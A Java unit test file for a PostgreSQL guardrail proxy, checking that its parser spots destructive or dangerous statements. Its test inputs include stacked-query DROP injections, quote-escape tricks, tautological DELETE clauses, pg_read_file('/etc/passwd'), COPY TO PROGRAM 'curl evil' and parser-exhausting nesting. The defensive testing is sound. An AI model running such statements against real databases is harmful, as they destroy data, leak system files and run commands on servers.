package dev.gatehouse.proxy.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;

/** PostgreSQL's own parser, run in the JVM, reduced to what guardrails decide on. */
class PostgresSqlAnalyzerTest {

    private static final PostgresSqlAnalyzer ANALYZER = PostgresSqlAnalyzer.withDefaults();

    @AfterAll
    static void stop() {
        ANALYZER.close();
    }

    private static SqlAnalysis analyze(String sql) {
        return ANALYZER.analyzeNow(sql);
    }

    private static List<String> classes(String sql) {
        return analyze(sql).statements().stream().map(s -> s.operations().toString()).toList();
    }

    @Test
    void everyStatementOfAMultiStatementStringIsSeen() {
        SqlAnalysis analysis = analyze("select * from t where a = 1; DROP TABLE x");
        assertThat(analysis.statements()).hasSize(2);
        assertThat(analysis.statements().get(0).text()).isEqualTo("select * from t where a = 1");
        assertThat(analysis.statements().get(1).operations().get(0))
                .isEqualTo(new Operation(StatementClass.DROP, ObjectKind.TABLE, List.of(new TableRef(null, "x")), false));
    }

    @Test
    void backslashDoesNotEscapeAQuoteWithStandardConformingStrings() {
        // PostgreSQL ends the string at the second quote: this is two statements, the second a DROP.
        SqlAnalysis analysis = analyze("SELECT 'a\\'; drop table t; --'");
        assertThat(analysis.statements()).extracting(AnalyzedStatement::statementClass)
                .containsExactly(StatementClass.SELECT, StatementClass.DROP);
    }

    @Test
    void nestedCommentsHideWhatIsInsideThem() {
        assertThat(classes("select 1 /* /* */ drop table t */")).containsExactly("[SELECT]");
    }

    @Test
    void writesInsideCtesAreOperations() {
        AnalyzedStatement statement = analyze("WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d").statements().get(0);
        assertThat(statement.operations()).extracting(Operation::statementClass)
                .containsExactly(StatementClass.SELECT, StatementClass.DELETE);
        assertThat(statement.operations().get(1).unboundedWrite()).isTrue();
        assertThat(statement.operations().get(1).tables()).containsExactly(new TableRef(null, "accounts"));
    }

    @Test
    void tautologicalWhereClausesAreUnbounded() {
        for (String where : List.of("", " WHERE true", " WHERE 1=1", " WHERE 'a' = 'a'", " WHERE id = id", " WHERE NOT false",
                " WHERE id > 5 OR 1 = 1", " WHERE 't'::boolean", " WHERE 2 > 1")) {
            assertThat(analyze("DELETE FROM t" + where).statements().get(0).operations().get(0).unboundedWrite())
                    .as(where).isTrue();
        }
        for (String where : List.of(" WHERE id = 1", " WHERE id = $1", " WHERE 1 = 2 OR id = 3", " WHERE CURRENT OF c")) {
            assertThat(analyze("UPDATE t SET a = 1" + where).statements().get(0).operations().get(0).unboundedWrite())
                    .as(where).isFalse();
        }
    }

    @Test
    void functionsAreFoundAnywhere() {
        AnalyzedStatement statement = analyze(
                "select coalesce((select pg_catalog.PG_READ_FILE('/etc/passwd')), 'x') from t where f(1) > lower(b)").statements().get(0);
        // COALESCE is syntax in PostgreSQL, not a function call; the rest are calls.
        assertThat(statement.functions()).containsExactlyInAnyOrder("pg_read_file", "f", "lower");
    }

    @Test
    void copyToAProgramIsServerSide() {
        assertThat(analyze("COPY t TO PROGRAM 'curl evil'").statements().get(0).serverSideCopy()).isTrue();
        assertThat(analyze("copy t from '/etc/passwd'").statements().get(0).serverSideCopy()).isTrue();
        assertThat(analyze("COPY t TO STDOUT").statements().get(0).serverSideCopy()).isFalse();
    }

    @Test
    void unicodeEscapesAreResolvedAsPostgresDoes() {
        AnalyzedStatement statement = analyze("DROP TABLE U&\"d\\0061ta\"").statements().get(0);
        assertThat(statement.operations().get(0).tables()).containsExactly(new TableRef(null, "data"));
    }

    @Test
    void explainAnalyzeRunsItsStatementButPlainExplainDoesNot() {
        assertThat(classes("EXPLAIN DELETE FROM t")).containsExactly("[EXPLAIN]");
        assertThat(analyze("EXPLAIN (ANALYZE) DELETE FROM t").statements().get(0).operations())
                .extracting(Operation::statementClass).contains(StatementClass.DELETE);
        assertThat(classes("EXPLAIN (ANALYZE false) DELETE FROM t")).containsExactly("[EXPLAIN]");
    }

    @Test
    void doBlocksAreOpaqueAndDollarQuotedStringsAreJustStrings() {
        AnalyzedStatement block = analyze("DO $x$ BEGIN EXECUTE 'drop table t'; END $x$").statements().get(0);
        assertThat(block.statementClass()).isEqualTo(StatementClass.DO);
        assertThat(block.opaqueCode()).isTrue();
        assertThat(classes("SELECT $$DROP TABLE t$$")).containsExactly("[SELECT]");
    }

    @Test
    void preparedStatementsCarryTheirBody() {
        AnalyzedStatement prepare = analyze("PREPARE p(int) AS DELETE FROM t WHERE id = $1").statements().get(0);
        assertThat(prepare.preparedName()).isEqualTo("p");
        assertThat(prepare.operations()).extracting(Operation::statementClass).containsExactly(StatementClass.PREPARE, StatementClass.DELETE);
        AnalyzedStatement execute = analyze("EXECUTE p(1)").statements().get(0);
        assertThat(execute.statementClass()).isEqualTo(StatementClass.EXECUTE);
        assertThat(execute.preparedName()).isEqualTo("p");
    }

    @Test
    void syntaxErrorsComeBackAsPostgresWordsThem() {
        SqlAnalysis analysis = analyze("SELEC 1");
        assertThat(analysis.parsed()).isFalse();
        assertThat(analysis.parseError()).isEqualTo("syntax error at or near \"SELEC\"");
        assertThat(analysis.errorPosition()).isEqualTo(1);
    }

    @Test
    void repeatedTextIsParsedOnce() {
        String sql = "SELECT abalance FROM pgbench_accounts WHERE aid = $1 /* " + System.nanoTime() + " */";
        long misses = ANALYZER.cacheMisses();
        SqlAnalysis first = analyze(sql);
        assertThat(ANALYZER.cached(sql)).isSameAs(first);
        assertThat(analyze(sql)).isSameAs(first);
        assertThat(ANALYZER.cacheMisses()).isEqualTo(misses + 1);
    }

    @Test
    void theSameStatementWithOtherLiteralsIsParsedOnce() {
        String table = "shape_" + System.nanoTime();
        SqlAnalysis first = analyze("SELECT v FROM " + table + " WHERE id = 10417");
        long misses = ANALYZER.cacheMisses();
        assertThat(ANALYZER.cached("SELECT v FROM " + table + " WHERE id = 52")).isSameAs(first);
        assertThat(ANALYZER.cacheMisses()).isEqualTo(misses);
    }

    @Test
    void anAnalysisDecidedByALiteralIsNotSharedWithOtherLiterals() {
        String table = "tautology_" + System.nanoTime();
        SqlAnalysis bounded = analyze("DELETE FROM " + table + " WHERE 1 = 2");
        assertThat(bounded.statements().get(0).operations().get(0).unboundedWrite()).isFalse();
        assertThat(ANALYZER.cached("DELETE FROM " + table + " WHERE 1 = 1")).isNull();
        assertThat(analyze("DELETE FROM " + table + " WHERE 1 = 1").statements().get(0).operations().get(0).unboundedWrite()).isTrue();
    }

    @Test
    void turningStandardStringsOffIsNotHiddenBehindTheShapeOfTurningThemOn() {
        assertThat(refusesPinnedSetting(analyze("SET standard_conforming_strings = 'on'"))).isFalse();
        assertThat(ANALYZER.cached("SET standard_conforming_strings = 'off'")).isNull();
        assertThat(refusesPinnedSetting(analyze("SET standard_conforming_strings = 'off'"))).isTrue();
        assertThat(refusesPinnedSetting(analyze("SET standard_conforming_strings = 1"))).isFalse();
        assertThat(refusesPinnedSetting(analyze("SET standard_conforming_strings = 0"))).isTrue();
    }

    @Test
    void syntaxErrorsAreNotSharedWithOtherLiterals() {
        String table = "broken_" + System.nanoTime();
        analyze("SELECT 'a' 'b' FROM " + table);
        assertThat(ANALYZER.cached("SELECT 'c' 'd' FROM " + table)).isNull();
    }

    @Test
    void hostileNestingIsRefusedAndTheParserKeepsWorking() {
        String nested = "SELECT " + "(".repeat(200_000) + "1" + ")".repeat(200_000);
        SqlAnalysis analysis = analyze(nested);
        assertThat(analysis.parsed()).isFalse();
        assertThat(analysis.parseError()).isNotBlank();
        assertThat(analyze("SELECT 2").parsed()).isTrue();
    }

    @Test
    void aMegabyteStatementIsParsedWhole() {
        StringBuilder list = new StringBuilder("DELETE FROM t WHERE id IN (0");
        for (int i = 1; list.length() < 1024 * 1024; i++) {
            list.append(',').append(i);
        }
        String sql = list.append("); DROP TABLE t").toString();
        SqlAnalysis analysis = analyze(sql);
        assertThat(analysis.statements()).extracting(AnalyzedStatement::statementClass)
                .containsExactly(StatementClass.DELETE, StatementClass.DROP);
        assertThat(ANALYZER.cached(sql)).as("too long to keep").isNull();
    }

    @Test
    void alterTableDropColumnIsADrop() {
        assertThat(analyze("ALTER TABLE t DROP COLUMN c").statements().get(0).operations())
                .extracting(Operation::statementClass).containsExactly(StatementClass.ALTER, StatementClass.DROP);
    }

    @Test
    void emptyStringsHaveNoStatements() {
        // pgjdbc's Connection.isValid() sends an empty query string; the module itself returns nothing for one.
        for (String sql : List.of("", " ", ";", ";;", "/* only a comment */", "-- only a comment")) {
            SqlAnalysis analysis = analyze(sql);
            assertThat(analysis.parsed()).as(sql).isTrue();
            assertThat(analysis.statements()).as(sql).isEmpty();
        }
    }

    @Test
    void numbersInWhereClausesCompareExactly() {
        // As doubles these are equal, so "x > y" folded to false; PostgreSQL compares them exactly and deletes every row.
        for (String where : List.of(" WHERE 1.0000000000000001 > 1", " WHERE 100000000000000000001 > 100000000000000000000",
                " WHERE 9007199254740993 <> 9007199254740992")) {
            assertThat(analyze("DELETE FROM t" + where).statements().get(0).operations().get(0).unboundedWrite()).as(where).isTrue();
        }
        assertThat(analyze("DELETE FROM t WHERE 0.1 > 0.10").statements().get(0).operations().get(0).unboundedWrite()).isFalse();
    }

    @Test
    void attributeNotationCountsAsACall() {
        // PostgreSQL runs ('.').pg_ls_dir as pg_ls_dir('.').
        assertThat(analyze("SELECT ('.').pg_ls_dir").statements().get(0).functions()).contains("pg_ls_dir");
        assertThat(analyze("SELECT (s.x).PG_STAT_FILE FROM s").statements().get(0).functions()).contains("pg_stat_file");
    }

    @Test
    void turningOffStandardConformingStringsIsRefused() {
        // With it off, PostgreSQL would read the second statement as a SELECT and a DROP; the gateway as one SELECT.
        for (String sql : List.of("SET standard_conforming_strings = off", "set session STANDARD_CONFORMING_STRINGS to 'false'",
                "SET LOCAL standard_conforming_strings = 0", "ALTER ROLE CURRENT_USER SET standard_conforming_strings = off",
                "ALTER DATABASE d SET standard_conforming_strings TO no",
                "SELECT 1; SET standard_conforming_strings = off; SELECT 'a\\', $$'; DROP TABLE t; --$$")) {
            // Parsed, and refused as a change of a pinned setting (docs/adr/0016), whatever the rules say.
            SqlAnalysis analysis = analyze(sql);
            assertThat(analysis.parsed()).as(sql).isTrue();
            assertThat(refusesPinnedSetting(analysis)).as(sql).isTrue();
            assertThat(analysis.statements()).as(sql).anySatisfy(statement ->
                    assertThat(statement.effects().refusal()).contains("standard_conforming_strings"));
        }
        for (String sql : List.of("SET standard_conforming_strings = on", "SET standard_conforming_strings TO true",
                "SET standard_conforming_strings = 1", "RESET standard_conforming_strings", "SET standard_conforming_strings TO DEFAULT",
                "SET escape_string_warning = off")) {
            assertThat(refusesPinnedSetting(analyze(sql))).as(sql).isFalse();
        }
    }

    @Test
    void aStatementThatRunsAPreparedOneNamesIt() {
        AnalyzedStatement explain = analyze("EXPLAIN ANALYZE EXECUTE p(1)").statements().get(0);
        assertThat(explain.statementClass()).isEqualTo(StatementClass.EXPLAIN);
        assertThat(explain.operations()).extracting(Operation::statementClass).contains(StatementClass.EXECUTE);
        assertThat(explain.preparedName()).isEqualTo("p");
        assertThat(analyze("CREATE TABLE x AS EXECUTE p").statements().get(0).preparedName()).isEqualTo("p");
        assertThat(analyze("EXPLAIN EXECUTE p").statements().get(0).preparedName()).isNull(); // planned, not run
    }

    private static boolean refusesPinnedSetting(SqlAnalysis analysis) {
        return analysis.statements().stream().anyMatch(statement -> statement.effects().refusedSetting() != null);
    }
}
